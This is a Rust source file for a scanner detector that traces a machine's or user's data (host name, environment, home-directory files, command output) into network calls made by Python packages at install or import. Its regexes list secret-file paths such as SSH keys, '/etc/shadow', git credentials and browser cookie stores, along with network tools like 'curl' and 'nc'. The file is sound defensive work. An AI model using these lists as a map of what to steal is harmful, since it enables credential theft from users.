//! `network.source-to-sink`: data of this machine or this user (host and user names, the MAC,
//! the working and home directories, environment values, files read under the home directory
//! or from `/etc/passwd`-like paths, directory listings of those, a command's captured output,
//! the clipboard or the screen) reaching, by name within one Python member, what a network
//! sink sends (HTTP clients, `http.client`/urllib3 `request`, SMTP/FTP/socket sends, DNS
//! look-ups, `curl`/`wget`/`nc` run as a process), in code that runs at install (`setup.py`,
//! `.pth`, in-tree backends, members install-time code runs) or on import (module level,
//! class bodies, functions the module calls or starts). Severity High: the shipped policy
//! blocks it through its install-time, import-time and exfiltration rules.
//!
//! Findings that combine: each half alone is common (a User-Agent, a config read from the
//! environment, a host name logged), and other detectors weigh each half by itself; this one
//! asks whether the value actually flows into what is sent, and whether that runs with nobody
//! calling it.
//!
//! Principled exclusions (each a named negative case in the tests): the OS family, Python
//! version and the package's own version are not sources; the destination is not data sent
//! (a path or an environment value in the URL argument, `requests.get(os.environ["SERVICE_URL"])`,
//! a file-or-URL argument; the host of a DNS look-up that only resolves the machine's own name); `timeout=`, `proxies=`,
//! `auth=`, `verify=`, `env=`, `cwd=` and a download's local file name are not data sent;
//! a path handed to `curl` as a process argument is where it writes, not what it sends; a flow
//! in a function nothing runs on import is left to the other detectors; tests and docs are
//! skipped.
//!
//! Flow by name, in linear time: one pass cuts the member into statements (strings and
//! comments skipped through the lexed spans, brackets balanced); each assignment, `for`/`with`
//! target, container update (`x[k] = …`, `x.append(…)`), `return`, and each argument of a call
//! of a function the member defines (its parameters) becomes an edge from an expression to a
//! name, keyed by the innermost function's *name* (every function of one name shares its
//! locals: imprecise, never quadratic) or the module. At most [`PASSES`] passes propagate the
//! sources' kinds along the edges the running sinks' arguments depend on (a demand-driven closure
//! over (scope, name) keys: the same taint at those sinks as propagating every edge); each
//! expression is read at most [`MAX_EXPR`] bytes, at most [`MAX_STATEMENTS`] statements,
//! [`MAX_CALLS`] call sites and [`MAX_SINKS`] sinks are kept.
//!
//! Cheapest rejections first: a member without a source literal, then without a source in code
//! (or a secret path in a string), is left before its sinks are searched and asked whether they
//! run on import; the flow's lookups skip identifiers no tainted name can be (a word filter).
//!
//! Must not: report where the sink does not run at install or import, or cache anything
//! across members.

use super::pysrc::{self, Kind, Source, MAX_HITS_PER_FILE};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use crate::scan::roles;
use regex::Regex;
use std::cell::OnceCell;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "network.source-to-sink",
    revision: 1,
    title: "Sends data of this machine or user over the network from code that runs at install or on import.",
    category: Category::Network,
    severity: Severity::High,
    description: "A host or user name, the environment, files under the home directory, a command's output or the clipboard flowing into a request, a mail, a socket, a DNS name or a curl command that runs at install or on import is how stealers and beacons report home.",
};

/// Kinds of data a value carries (bits).
const HOST: u8 = 1;
const USER: u8 = 2;
/// The working or home directory (as a path).
const PATH: u8 = 4;
/// Contents: a file read under a user path, a listing of one, a command's output, the
/// clipboard or the screen.
const DATA: u8 = 8;
const ENV: u8 = 16;
/// A path literal naming a user's or the system's secrets (`.ssh/`, `/etc/passwd`): data only
/// once read.
const FILE: u8 = 32;
/// A command line naming a network tool (`curl`, `wget`, `nc` …): not data; it tells a
/// process sink that the command sends.
const TOOL: u8 = 64;
/// What a sink can send.
const SENT: u8 = HOST | USER | PATH | DATA | ENV;

/// Sources: the value of a call (or the function itself handed to a helper) that reads this
/// machine's or user's data. Group 1..=6 name the kind.
static SOURCE: LazyLock<Regex> = LazyLock::new(|| Regex::new(SOURCE_PATTERN).expect("source regex"));
const SOURCE_PATTERN: &str = concat!(
    r#"(?-u:\b)(?:(socket\.gethostname|gethostname|socket\.getfqdn|getfqdn|platform\.node|os\.uname|platform\.uname|uuid\.getnode|getnode)(?-u:\b)"#,
    r#"|(getpass\.getuser|getuser|os\.getlogin|getlogin|getpwuid)(?-u:\b)"#,
    r#"|(os\.getcwd|getcwd|expanduser|Path\.home|Path\.cwd)(?-u:\b)"#,
    r#"|(check_output|getoutput|getstatusoutput|os\.popen|communicate|pyperclip\.paste|GetClipboardData|clipboard_get|ImageGrab\.grab|pyautogui\.screenshot)(?-u:\b)"#,
    r#"|(os\.environ|environ\.get|getenv|environ\[)"#,
    r#")"#,
    r#"|(api\.ipify|ipinfo\.io|ifconfig\.me|icanhazip|checkip\.amazonaws|ip-api\.com|wtfismyip)"#,
);

/// Path literals whose file, once read, is the user's or the system's secret data.
static FILE_LITERAL: LazyLock<Regex> = LazyLock::new(|| Regex::new(FILE_LITERAL_PATTERN).expect("file literal"));
const FILE_LITERAL_PATTERN: &str = r#"\.ssh/|\.aws/|\.kube/|\.gnupg|\.docker/config|/etc/passwd|/etc/shadow|/etc/machine-id|/etc/hostname|_history|\.git-credentials|\.netrc|\.npmrc|\.pypirc|Local State|Login Data|Cookies"#;
/// [`SOURCE`] or [`FILE_LITERAL`]: the member's first gate, one search where a member holding
/// neither (most) was searched twice.
static SOURCE_OR_FILE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(&format!("{SOURCE_PATTERN}|{FILE_LITERAL_PATTERN}")).expect("source or file"));

/// What turns a user path into contents: a read or a listing.
static READS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:open|read|read_text|read_bytes|readlines|listdir|scandir|glob|iglob|walk|iterdir)\s*\(")
        .expect("reads")
});

/// Network sinks. Group 1: HTTP calls whose first argument is the URL; 2: calls whose
/// second argument is the URL (`requests.request(method, url)`, `conn.request(method, url, body)`);
/// 3: raw sends (socket, SMTP, FTP); 4: DNS look-ups; 5: processes (counted when the command
/// names a network tool); 6: downloads (only the URL is sent); 7: bare `get`/`post`/`put`
/// (counted when the member imports them from an HTTP client).
static SINK: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(&format!(r"{SINK_CALLS}|(?m:^|[^.\w])(get|post|put)\s*\(")).expect("sink regex"));
/// Groups 1 to 6 of [`SINK`].
const SINK_CALLS: &str = concat!(
    r"(?-u:\b)(?:",
    r"(requests\.(?:get|post|put|patch|delete|head|options)|httpx\.(?:get|post|put|patch|delete|stream)|urlopen|urllib\.request\.Request|urllib2\.Request|Request|\.post|\.put|\.patch)",
    r"|(requests\.request|httpx\.request|\.request)",
    r"|(\.sendall|\.sendto|\.send|\.sendmail|\.send_message|\.storbinary|\.storlines)",
    r"|(gethostbyname_ex|gethostbyname|getaddrinfo|resolver\.resolve|resolver\.query)",
    r"|(subprocess\.(?:Popen|call|check_call|check_output|run)|os\.system|os\.popen)",
    r"|(urlretrieve|wget\.download)",
    r")\s*\(",
);
/// [`SINK`] without the bare `get`/`post`/`put` (group 7), for members that import none: its
/// matches are exactly [`SINK`]'s matches of groups 1 to 6 (no match of either part can start
/// inside a match of groups 1 to 6 but at its last `(`, where a bare call is not one anyway, and
/// none of groups 1 to 6 inside a bare call), and unlike [`SINK`] it starts with literals the
/// regex crate skips ahead to. Tested equal (`find_sinks_is_the_whole_search`).
static SINK_CALLS_ONLY: LazyLock<Regex> = LazyLock::new(|| Regex::new(SINK_CALLS).expect("sink calls"));

/// A network tool in a command line.
static NET_TOOL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:curl|wget|nc|ncat|netcat|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)(?-u:\b)")
        .expect("net tool")
});

/// Keyword arguments that configure a call rather than carry what it sends.
const NOT_SENT: &[&str] = &[
    "timeout",
    "proxies",
    "proxy",
    "auth",
    "verify",
    "cert",
    "stream",
    "allow_redirects",
    "env",
    "cwd",
    "stdout",
    "stderr",
    "stdin",
    "shell",
    "text",
    "check",
    "capture_output",
    "encoding",
    "universal_newlines",
    "filename",
    "context",
    "method",
    "host",
    "port",
    "source_address",
];

/// Bounds (see the module docs).
const PASSES: usize = 4;
const MAX_EXPR: usize = 4_000;
const MAX_STATEMENTS: usize = 200_000;
const MAX_CALLS: usize = 4_096;
const MAX_SINKS: usize = 512;
const MAX_PARAMS: usize = 64;

/// The scope key of module-level code.
const MODULE: &str = "";
/// The name under which a function's returned value is kept.
const RETURN: &str = "\0return";

#[derive(Clone, Copy, PartialEq, Eq)]
enum SinkKind {
    /// An HTTP call; the index of the positional argument that is the URL.
    Http(usize),
    Raw,
    Dns,
    Process,
    Download,
}

pub(crate) struct SourceToSink;

impl Detector for SourceToSink {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "requests",
            "urlopen",
            "urllib",
            "http.client",
            "HTTPConnection",
            "HTTPSConnection",
            "httpx",
            "aiohttp",
            "urllib3",
            "smtplib",
            "ftplib",
            "socket",
            "resolver",
            "curl",
            "wget",
            "urlretrieve",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if !file.is_python || pysrc::test_member(file) {
            return;
        }
        let everywhere = match file.role {
            FileRole::InstallTime => true,
            FileRole::Runtime if roles::is_imported_module(file.path) => false,
            _ => return,
        };
        // Cheapest rejections first (every step below is pure, so the order does not change what
        // is reported): without a source literal, and then without a source in code (or a secret
        // path in a string), nothing carries data of this machine to any sink; only then are the
        // sinks searched and each asked whether it runs on import (the member's import map).
        if !SOURCE_OR_FILE.is_match(file.text) {
            return;
        }
        let src = file.source();
        let sources = sources(src);
        if !sources.iter().any(|&(_, k)| k & (SENT | FILE) != 0) {
            return;
        }
        let sinks = find_sinks(src);
        if sinks.is_empty() {
            return;
        }
        // Only sinks that run: at install everything; in a module, what runs on import.
        let running: Vec<(usize, usize, SinkKind)> =
            if everywhere { sinks } else { sinks.into_iter().filter(|&(o, _, _)| runs_on_import(src, o)).collect() };
        if running.is_empty() {
            return;
        }
        let flow = Flow::new(src, sources, &running);
        let mut reported = 0;
        for (offset, after_paren, kind) in running {
            if reported >= MAX_HITS_PER_FILE {
                break;
            }
            if let Some(what) = flow.sends(offset, after_paren, kind) {
                let name = src.text[offset..after_paren - 1].trim_end().trim_start_matches('.');
                hits.push(
                    &META,
                    Hit { severity: None, evidence: pysrc::evidence(file, offset, format!("{what} -> {name}")) },
                );
                reported += 1;
            }
        }
    }
}

/// Sinks in code: (offset of the name, offset just after `(`, kind), at most [`MAX_SINKS`].
fn find_sinks(src: &Source<'_>) -> Vec<(usize, usize, SinkKind)> {
    let text = src.text;
    let holds = |words: &[&str]| words.iter().any(|w| memchr::memmem::find(text.as_bytes(), w.as_bytes()).is_some());
    // Each asked only when a match needs it (most members need one or two).
    let (raw_ok, method_ok, request_ok) = (OnceCell::new(), OnceCell::new(), OnceCell::new());
    let raw_ok = || *raw_ok.get_or_init(|| holds(&["socket", "smtplib", "SMTP", "ftplib", "FTP"]));
    let method_ok = || {
        *method_ok.get_or_init(|| {
            holds(&["requests", "httpx", "aiohttp", "urllib3", "http.client", "HTTPConnection", "HTTPSConnection"])
        })
    };
    let request_ok = || *request_ok.get_or_init(|| holds(&["urllib", "Request"]));
    let bare_ok = holds(&["from requests import", "from httpx import"]);
    let sinks: &Regex = if bare_ok { &SINK } else { &SINK_CALLS_ONLY };
    let mut out = Vec::new();
    for c in sinks.captures_iter(text) {
        if out.len() >= MAX_SINKS {
            break;
        }
        let whole = c.get(0).expect("match");
        let (g, kind) = if let Some(g) = c.get(1) {
            let n = g.as_str();
            if n.starts_with('.') && !method_ok() || n == "Request" && !request_ok() {
                continue;
            }
            (g, SinkKind::Http(0))
        } else if let Some(g) = c.get(2) {
            if g.as_str().starts_with('.') && !method_ok() {
                continue;
            }
            (g, SinkKind::Http(1))
        } else if let Some(g) = c.get(3) {
            if !raw_ok() {
                continue;
            }
            (g, SinkKind::Raw)
        } else if let Some(g) = c.get(4) {
            (g, SinkKind::Dns)
        } else if let Some(g) = c.get(5) {
            (g, SinkKind::Process)
        } else if let Some(g) = c.get(6) {
            (g, SinkKind::Download)
        } else if let Some(g) = c.get(7) {
            if !bare_ok {
                continue;
            }
            (g, SinkKind::Http(0))
        } else {
            continue;
        };
        // A bare `Request` or `get` that is an attribute or a definition is not the client's.
        let start = g.start();
        let b = text.as_bytes();
        if start > 0 && g.as_str() == "Request" && (b[start - 1] == b'.' || is_ident(b[start - 1])) {
            continue;
        }
        if !src.is_code(start) || pysrc::is_definition(text, start) {
            continue;
        }
        out.push((start, whole.end(), kind));
    }
    out
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Whether the code at `offset` runs on import, located through the member's shared line index
/// ([`Source::lines`]). Columns are counted in characters from the line start, at most
/// [`MAX_EXPR`] bytes back (a longer line: the line's first code), so a hostile long line costs
/// each sink a bounded count.
fn runs_on_import(src: &Source<'_>, offset: usize) -> bool {
    let lines = src.lines();
    let line = lines.line(offset);
    let line_start = lines.start(line).unwrap_or(0);
    let column = (offset - line_start <= MAX_EXPR).then(|| src.text[line_start..offset].chars().count() as u32 + 1);
    src.runs_on_import(line as u32 + 1, column)
}

/// One edge: the value of `expr` flows into `name` in scope `scope`.
struct Edge<'t> {
    scope: &'t str,
    name: &'t str,
    expr: (usize, usize),
    /// Where `expr` is read (its scope).
    from: &'t str,
}

/// The member's names and what they carry, propagated once.
struct Flow<'s, 't> {
    src: &'s Source<'t>,
    /// Source occurrences in code or f-strings: (offset, kind bits), in order.
    sources: Vec<(usize, u8)>,
    reads: Vec<usize>,
    taint: HashMap<(&'t str, &'t str), u8>,
    /// The words a lookup in `taint` can find (kept with it), so that most identifiers of an
    /// expression are passed over without hashing.
    tainted: WordFilter,
    /// For each sink offset, the scope its code is in (looked up through `scope_at`).
    scope_starts: Vec<(usize, usize, &'t str)>,
}

impl<'s, 't> Flow<'s, 't> {
    /// The flow from `sources` (what [`sources`] found) and the network tools named in strings,
    /// propagated only along the edges what `sinks` send can depend on ([`Flow::demanded`]).
    fn new(src: &'s Source<'t>, sources: Vec<(usize, u8)>, sinks: &[(usize, usize, SinkKind)]) -> Self {
        Self::with_filter(src, sources, WordFilter::default(), Some(sinks))
    }

    /// [`Flow::new`] with `tainted` starting as given (tests: every word, so every identifier is
    /// looked up), and with every edge propagated when `demand` is `None` (the full flow the
    /// demand-driven one is tested against).
    fn with_filter(
        src: &'s Source<'t>,
        mut sources: Vec<(usize, u8)>,
        tainted: WordFilter,
        demand: Option<&[(usize, usize, SinkKind)]>,
    ) -> Self {
        let text = src.text;
        for m in NET_TOOL.find_iter(text) {
            if src.kind_at(m.start()) == Kind::Str {
                sources.push((m.start(), TOOL));
            }
        }
        sources.sort_unstable();
        let reads = READS.find_iter(text).filter(|m| live(src, m.start())).map(|m| m.start()).collect();
        let scopes = &src.scopes().scopes;
        // Function bodies with their names, for the scope of an offset (innermost def).
        let scope_starts: Vec<(usize, usize, &'t str)> =
            scopes.iter().filter(|s| s.def).map(|s| (s.body.0, s.body.1, &text[s.name.0..s.name.1])).collect();
        let mut flow = Flow { src, sources, reads, taint: HashMap::new(), tainted, scope_starts };
        flow.propagate(demand);
        flow
    }

    /// The innermost function whose body holds `offset` (by name), or the module.
    fn scope_at(&self, offset: usize) -> &'t str {
        // Bodies are in header order; nested bodies lie inside their parents. The innermost
        // holding `offset` is the last one starting before it that still holds it: walk back
        // from there over at most a bounded number of candidates.
        let i = self.scope_starts.partition_point(|&(s, _, _)| s <= offset);
        for &(s, e, name) in self.scope_starts[..i].iter().rev().take(64) {
            if s <= offset && offset < e {
                return name;
            }
        }
        MODULE
    }

    /// Reads statements once and propagates kinds along the edges, at most [`PASSES`] times: every
    /// edge, or with `demand` only the edges [`Flow::demanded`] keeps (in the same order).
    fn propagate(&mut self, demand: Option<&[(usize, usize, SinkKind)]>) {
        let src = self.src;
        let text = src.text;
        let defs: HashSet<&'t str> = self.scope_starts.iter().map(|&(_, _, n)| n).collect();
        let mut params: HashMap<&'t str, Vec<&'t str>> = HashMap::new();
        let mut edges: Vec<Edge<'t>> = Vec::new();
        let mut calls: Vec<(&'t str, (usize, usize), &'t str)> = Vec::new();
        for (start, end) in statements(src) {
            let scope = self.scope_at(start);
            let stmt = &text[start..end];
            self.statement(stmt, start, scope, &mut edges, &mut params);
            if calls.len() < MAX_CALLS && !defs.is_empty() {
                calls_in(src, start, end.min(start + MAX_EXPR), &defs, scope, &mut calls);
            }
        }
        for (callee, args, from) in calls {
            if let Some(ps) = params.get(callee) {
                for &p in ps {
                    edges.push(Edge { scope: callee, name: p, expr: args, from });
                }
            }
        }
        if let Some(sinks) = demand {
            let keep = self.demanded(&edges, sinks);
            let mut k = keep.iter();
            edges.retain(|_| k.next().copied().unwrap_or(false));
        }
        for _ in 0..PASSES {
            let mut changed = false;
            for e in &edges {
                let bits = self.kinds(e.expr.0, e.expr.1, e.from);
                if bits == 0 {
                    continue;
                }
                let slot = self.taint.entry((e.scope, e.name)).or_insert(0);
                if *slot | bits != *slot {
                    *slot |= bits;
                    changed = true;
                }
                // The word `kinds` looks this key up by: a name, or a function's name for its
                // returned value.
                self.tainted.insert(if e.name == RETURN { e.scope } else { e.name });
            }
            if !changed {
                break;
            }
        }
    }

    /// Which edges what `sinks` send can depend on: the keys ((scope, name), as [`Flow::kinds`]
    /// looks them up) read by the sinks' arguments, then, transitively, every edge writing such a
    /// key and the keys its expression reads. A worklist over keys: each key and each edge is
    /// taken once, each kept edge's expression read once more (linear in the edges).
    ///
    /// Why the taint the sinks read is the full flow's: a kept edge reads only kept keys, and an
    /// edge not kept writes no kept key (else it would be kept). So in each pass, every kept edge
    /// sees the same values as in the full flow, in the same order; and a pass that changes no
    /// kept key leaves the next pass's kept edges the same inputs, so stopping there (the full
    /// flow may go on for other keys) gives the same values. The sources and reads an expression
    /// carries by its offsets do not depend on the taint.
    fn demanded(&self, edges: &[Edge<'t>], sinks: &[(usize, usize, SinkKind)]) -> Vec<bool> {
        let text = self.src.text;
        let mut by_key: HashMap<(&'t str, &'t str), Vec<usize>> = HashMap::new();
        // The words a key with an edge can be looked up by (as `tainted` in `kinds`): a word not
        // in it names no key any edge writes, so it adds nothing to the closure.
        let mut targets = WordFilter::default();
        for (i, e) in edges.iter().enumerate() {
            by_key.entry((e.scope, e.name)).or_default().push(i);
            targets.insert(if e.name == RETURN { e.scope } else { e.name });
        }
        let mut keep = vec![false; edges.len()];
        let mut seen: HashSet<(&'t str, &'t str)> = HashSet::new();
        let mut work: Vec<(&'t str, &'t str)> = Vec::new();
        let mut read = |start: usize, end: usize, scope: &'t str, work: &mut Vec<(&'t str, &'t str)>| {
            let mut last = "";
            for (s, e) in expr_words(text, start, end) {
                let w = &text[s..e];
                // The same word again (`g(g(g(…`) names the same keys.
                if w == last || !targets.may_hold(w) {
                    continue;
                }
                last = w;
                for key in [(scope, w), (MODULE, w), (w, RETURN)] {
                    if seen.insert(key) {
                        work.push(key);
                    }
                }
            }
        };
        for &(offset, after_paren, _) in sinks {
            let args = pysrc::call_argument(text, after_paren, MAX_EXPR);
            let scope = self.scope_at(offset);
            for (s, e) in split_top_ranges(self.src, after_paren, after_paren + args.len()) {
                read(s, e, scope, &mut work);
            }
        }
        while let Some(key) = work.pop() {
            for &i in by_key.get(&key).map_or(&[][..], |v| v.as_slice()) {
                if !keep[i] {
                    keep[i] = true;
                    let e = &edges[i];
                    read(e.expr.0, e.expr.1, e.from, &mut work);
                }
            }
        }
        keep
    }

    /// The edges one statement adds.
    fn statement(
        &self,
        stmt: &'t str,
        at: usize,
        scope: &'t str,
        edges: &mut Vec<Edge<'t>>,
        params: &mut HashMap<&'t str, Vec<&'t str>>,
    ) {
        let whole = (at, at + stmt.len());
        let mut word = leading_word(stmt);
        if word == "async" {
            word = leading_word(stmt.trim_start()[5..].trim_start());
        }
        match word {
            "def" => {
                let rest = stmt.trim_start_matches("async").trim_start().trim_start_matches("def").trim_start();
                let name = leading_word(rest);
                if let (Some(open), false) = (rest.find('('), name.is_empty()) {
                    let inner = pysrc::call_argument(rest, open + 1, MAX_EXPR);
                    let list = params.entry(name).or_default();
                    for p in split_top(inner) {
                        let p = p.trim().trim_start_matches('*');
                        let pn = leading_word(p);
                        if !pn.is_empty()
                            && pn != "self"
                            && pn != "cls"
                            && list.len() < MAX_PARAMS
                            && !list.contains(&pn)
                        {
                            list.push(pn);
                        }
                    }
                }
            }
            "return" | "yield" => {
                let off = stmt.find(word).map_or(0, |i| i + word.len());
                edges.push(Edge { scope, name: RETURN, expr: (at + off, whole.1), from: scope });
            }
            "for" => {
                // for TARGETS in EXPR
                let head = stmt.find("for").map_or(0, |i| i + 3);
                if let Some(i) = find_word(stmt, " in ").filter(|&i| i > head) {
                    for t in names_of(&stmt[head..i]) {
                        edges.push(Edge { scope, name: t, expr: (at + i + 4, whole.1), from: scope });
                    }
                }
            }
            "with" => {
                let mut rest = stmt;
                let mut base = at;
                while let Some(i) = find_word(rest, " as ") {
                    let name = leading_word(rest[i + 4..].trim_start());
                    if !name.is_empty() {
                        edges.push(Edge { scope, name, expr: (at, base + i), from: scope });
                    }
                    base += i + 4;
                    rest = &rest[i + 4..];
                }
            }
            "if" | "elif" | "while" | "else" | "try" | "except" | "finally" | "class" | "import" | "from"
            | "assert" | "del" | "pass" | "raise" | "global" | "nonlocal" | "print" | "lambda" => {}
            _ => {
                if let Some((targets, value)) = assignment(stmt) {
                    for t in names_of(targets) {
                        edges.push(Edge { scope, name: t, expr: (at + value, whole.1), from: scope });
                    }
                } else if let Some((name, args)) = container_update(stmt) {
                    edges.push(Edge { scope, name, expr: (at + args, whole.1), from: scope });
                }
            }
        }
    }

    /// The kinds of data the code in `start..end` (read in scope `scope`) carries.
    fn kinds(&self, start: usize, end: usize, scope: &'t str) -> u8 {
        let end = end.min(start + MAX_EXPR).min(self.src.text.len());
        let mut bits = 0;
        let i = self.sources.partition_point(|&(o, _)| o < start);
        for &(o, k) in &self.sources[i..] {
            if o >= end {
                break;
            }
            bits |= k;
        }
        let text = self.src.text;
        for (s, j) in expr_words(text, start, end) {
            let w = &text[s..j];
            // The filter first (most words carry nothing), the lookups, then whether the word
            // is code: the same bits as asking in the opposite order.
            if !self.tainted.may_hold(w) {
                continue;
            }
            let mut found = 0;
            for key in [(scope, w), (MODULE, w), (w, RETURN)] {
                if let Some(&k) = self.taint.get(&key) {
                    found |= k;
                }
            }
            if found != 0 && live(self.src, s) {
                bits |= found;
            }
        }
        if bits & (PATH | FILE) != 0 {
            let r = self.reads.partition_point(|&o| o < start);
            if self.reads.get(r).is_some_and(|&o| o < end) {
                bits |= DATA;
            }
        }
        bits & !FILE
    }

    /// What the sink at `offset` sends of this machine's data, if anything (a description).
    fn sends(&self, offset: usize, after_paren: usize, kind: SinkKind) -> Option<String> {
        let text = self.src.text;
        let args = pysrc::call_argument(text, after_paren, MAX_EXPR);
        let scope = self.scope_at(offset);
        let mut bits = 0u8;
        let mut tool = false;
        let mut position = 0usize;
        for (s, e) in split_top_ranges(self.src, after_paren, after_paren + args.len()) {
            let arg = text[s..e].trim();
            let keyword = keyword_of(arg);
            if keyword.is_some_and(|k| NOT_SENT.contains(&k)) {
                continue;
            }
            let is_positional = keyword.is_none();
            let all = self.kinds(s, e, scope);
            tool |= all & TOOL != 0;
            let k = all & SENT;
            let is_url = |url: usize| keyword == Some("url") || is_positional && position == url;
            match kind {
                // The URL is where the request goes: a path or an environment value there is a
                // file-or-URL argument or a configured endpoint; a host or user name or contents
                // spliced into it are sent.
                SinkKind::Http(url) if is_url(url) => bits |= k & (HOST | USER | DATA),
                SinkKind::Download if !is_url(0) => {}
                SinkKind::Download => bits |= k & (HOST | USER | DATA),
                SinkKind::Dns => {
                    // The name looked up: the machine's own name alone is no leak; a name built
                    // around it (a literal domain, concatenation, formatting) is.
                    let built =
                        arg.contains(['+', '%', '\'', '"', '{']) || arg.contains("format") || arg.contains("join");
                    bits |= k & (USER | PATH | DATA);
                    if built {
                        bits |= k & HOST;
                    }
                }
                SinkKind::Process => bits |= k & !PATH,
                _ => bits |= k,
            }
            if is_positional {
                position += 1;
            }
        }
        if kind == SinkKind::Process && !tool {
            return None;
        }
        (bits != 0).then(|| describe(bits))
    }
}

/// The words [`Flow::kinds`] looks up in the code at `start..end` (read at most [`MAX_EXPR`]
/// bytes, as it does): the [`ident_words`] not starting with a digit. One definition for the
/// lookups and for [`Flow::demanded`].
fn expr_words(text: &str, start: usize, end: usize) -> impl Iterator<Item = (usize, usize)> + '_ {
    let b = text.as_bytes();
    ident_words(text, start, end).filter(move |&(s, _)| !b[s].is_ascii_digit())
}

/// The runs of identifier bytes in `start..end` (read at most [`MAX_EXPR`] bytes) not after an
/// identifier byte or a `.`, cut at the end: the one walk of [`expr_words`] and [`calls_in`].
fn ident_words(text: &str, start: usize, end: usize) -> impl Iterator<Item = (usize, usize)> + '_ {
    let end = end.min(start + MAX_EXPR).min(text.len());
    let b = text.as_bytes();
    let mut j = start;
    std::iter::from_fn(move || {
        while j < end {
            if !is_ident(b[j]) || (j > 0 && (is_ident(b[j - 1]) || b[j - 1] == b'.')) {
                j += 1;
                continue;
            }
            let s = j;
            while j < end && is_ident(b[j]) {
                j += 1;
            }
            return Some((s, j));
        }
        None
    })
}

/// Source occurrences in code or f-strings (a what-is-my-IP service also in a string) and secret
/// path literals in strings: (offset, kind bits), in text order within each kind.
fn sources(src: &Source<'_>) -> Vec<(usize, u8)> {
    let text = src.text;
    let mut sources = Vec::new();
    for c in SOURCE.captures_iter(text) {
        let m = c.get(0).expect("match");
        // A what-is-my-IP service is named in a string; every other source is code.
        let in_string = c.get(6).is_some() && src.kind_at(m.start()) == Kind::Str;
        if !in_string && !live(src, m.start()) {
            continue;
        }
        if c.get(1).is_some_and(|g| g.as_str().ends_with("uname")) && os_family_only(&text[m.end()..]) {
            continue;
        }
        let kind = if c.get(1).is_some() || c.get(6).is_some() {
            HOST
        } else if c.get(2).is_some() {
            USER
        } else if c.get(3).is_some() {
            PATH
        } else if c.get(4).is_some() {
            DATA
        } else {
            ENV
        };
        sources.push((m.start(), kind));
    }
    for m in FILE_LITERAL.find_iter(text) {
        if src.kind_at(m.start()) == Kind::Str {
            sources.push((m.start(), FILE));
        }
    }
    sources
}

/// A set of words that may answer "maybe" for a word it does not hold (never "no" for one it
/// does): 4,096 bits keyed by a word's length and its first and last bytes.
struct WordFilter([u64; 64]);

impl Default for WordFilter {
    fn default() -> Self {
        WordFilter([0; 64])
    }
}

impl WordFilter {
    fn bit(w: &str) -> usize {
        let b = w.as_bytes();
        match (b.first(), b.last()) {
            (Some(&f), Some(&l)) => ((f as usize * 33 + l as usize) * 16 + (b.len() & 15)) & 4095,
            _ => 0,
        }
    }
    fn insert(&mut self, w: &str) {
        let i = Self::bit(w);
        self.0[i / 64] |= 1 << (i % 64);
    }
    fn may_hold(&self, w: &str) -> bool {
        let i = Self::bit(w);
        self.0[i / 64] & (1 << (i % 64)) != 0
    }
}

/// Whether `offset` is code or inside an f-string (whose fields are code).
fn live(src: &Source<'_>, offset: usize) -> bool {
    src.span_at(offset).is_none_or(|sp| sp.kind == Kind::Str && sp.fstring)
}

/// After `uname`: a field that is the OS family, release or machine type, not the host
/// (`platform.uname().system`, `os.uname().sysname`, `os.uname()[0]`).
fn os_family_only(after: &str) -> bool {
    let rest = &after[..pysrc::floor_char(after, after.len().min(24))];
    let rest = rest.strip_prefix("()").unwrap_or(rest);
    [".system", ".sysname", ".release", ".machine", ".version", ".processor", "[0]", "[2]", "[3]", "[4]"]
        .iter()
        .any(|f| rest.starts_with(f))
}

fn describe(bits: u8) -> String {
    let mut parts = Vec::new();
    for (b, w) in
        [(HOST, "host name"), (USER, "user name"), (PATH, "user path"), (DATA, "local data"), (ENV, "environment")]
    {
        if bits & b != 0 {
            parts.push(w);
        }
    }
    parts.join(", ")
}

fn leading_word(s: &str) -> &str {
    let s = s.trim_start();
    let end = s.bytes().position(|b| !is_ident(b)).unwrap_or(s.len());
    &s[..end]
}

/// Position of `needle` at bracket depth 0 (no string awareness needed: statements hold
/// strings, but `needle` is ` in ` / ` as `, and a false split only adds an edge).
fn find_word(s: &str, needle: &str) -> Option<usize> {
    let b = s.as_bytes();
    let mut depth = 0i32;
    for (i, &c) in b.iter().enumerate() {
        match c {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            _ if depth == 0 && b[i..].starts_with(needle.as_bytes()) => return Some(i),
            _ => {}
        }
    }
    None
}

/// `TARGETS = VALUE` (also `+=`, `|=`, annotated `x: T = v`): the targets text and the offset
/// of the value. The first top-level `=` that is not a comparison splits them (strings skipped).
fn assignment(stmt: &str) -> Option<(&str, usize)> {
    let b = stmt.as_bytes();
    let mut depth = 0i32;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'(' | b'[' | b'{' => depth += 1,
            b')' | b']' | b'}' => depth -= 1,
            q @ (b'\'' | b'"') => {
                // Skip the string (an escaped quote does not end it).
                i += 1;
                while i < b.len() && !(b[i] == q && b[i - 1] != b'\\') {
                    i += 1;
                }
            }
            b'=' if depth == 0 => {
                let prev = if i > 0 { b[i - 1] } else { b' ' };
                let next = b.get(i + 1).copied().unwrap_or(b' ');
                if next == b'=' {
                    i += 2;
                    continue;
                }
                if !matches!(prev, b'=' | b'!' | b'<' | b'>') {
                    let t = if matches!(prev, b'+' | b'-' | b'*' | b'/' | b'|' | b'&' | b'%' | b'^' | b'@') {
                        i - 1
                    } else {
                        i
                    };
                    return Some((&stmt[..t], i + 1));
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

/// `name.append(…)`, `name.extend(…)`, `name.update(…)`, `name.add(…)`, `name.insert(…)`,
/// `name.write(…)`: the container's name and where its arguments start.
fn container_update(stmt: &str) -> Option<(&str, usize)> {
    let lead = stmt.len() - stmt.trim_start().len();
    let name = leading_word(stmt);
